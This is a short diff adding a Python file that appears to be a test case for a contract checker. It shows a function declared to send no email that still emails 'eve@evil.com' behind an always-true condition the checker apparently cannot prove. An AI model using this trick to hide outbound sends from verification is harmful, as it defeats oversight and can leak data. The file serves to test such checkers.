@@ -1,0 +1,10 @@
+# not proved: f"{True}" is "True"
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted.effects import send_email
+
+
+@lictor_layer.guarantee(c.none_sent())
+def main() -> None:
+    if f"{1 == 1}" == "True":
+        send_email("eve@evil.com", "x")
